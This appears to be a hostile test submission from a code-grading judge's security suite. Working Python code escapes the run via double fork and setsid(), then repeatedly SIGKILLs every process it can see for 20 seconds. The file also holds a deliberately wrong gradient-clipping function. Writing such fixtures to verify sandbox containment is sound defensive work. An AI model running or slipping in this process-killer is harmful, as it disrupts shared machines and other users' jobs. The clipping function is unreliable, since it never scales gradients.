# expect: failed
# needs: landlock|bubblewrap
# danger: signals every process it can reach (the suite proves signals are contained first)
# Leaves a killer behind: a double fork and setsid() make a grandchild outside the run's process
# group that waits until the run is over, then SIGKILLs every process it can see, again and
# again for 20 s (the next student's run, a warm worker, grind). The judge must kill it with the
# run: no process may survive the run, and the next student must still pass. The run itself
# gives the wrong answer below, which fails.
import os
import time


def _alive(pid):
    try:
        with open(f"/proc/{pid}/stat") as handle:
            return handle.read().rsplit(")", 1)[1].split()[0] not in ("Z", "X")
    except (OSError, IndexError):
        return False


def _kill_everything_for(seconds):
    me = os.getpid()
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        for entry in os.listdir("/proc"):
            if entry.isdigit() and int(entry) != me:
                try:
                    os.kill(int(entry), 9)
                except OSError:
                    pass
        time.sleep(0.02)


def _leave_a_killer():
    run = os.getpid()
    try:
        child = os.fork()
    except OSError:
        return
    if child:
        try:
            os.waitpid(child, 0)
        except OSError:
            pass
        return
    try:  # the first child: a new session, then the grandchild, then leave
        os.setsid()
        if os.fork():
            os._exit(0)
        null = os.open(os.devnull, os.O_RDWR)
        for fd in (0, 1, 2):
            os.dup2(null, fd)
        os.closerange(3, 65536)  # hold no pipe of the judge's open
        waited = time.monotonic() + 15
        while _alive(run) and time.monotonic() < waited:
            time.sleep(0.01)
        _kill_everything_for(20)
    except BaseException:  # noqa: BLE001 - never return into the runner from a fork
        pass
    os._exit(0)


_leave_a_killer()


def clip_grad_norm_(parameters, max_norm, norm_type=2.0):
    # The run's own answer: plainly wrong (right norm, gradients never scaled).
    import torch

    if isinstance(parameters, torch.Tensor):
        parameters = [parameters]
    grads = [p.grad for p in parameters if p.grad is not None]
    if not grads:
        return torch.tensor(0.0)
    norms = torch.stack([torch.linalg.vector_norm(g, float(norm_type)) for g in grads])
    return torch.linalg.vector_norm(norms, float(norm_type))
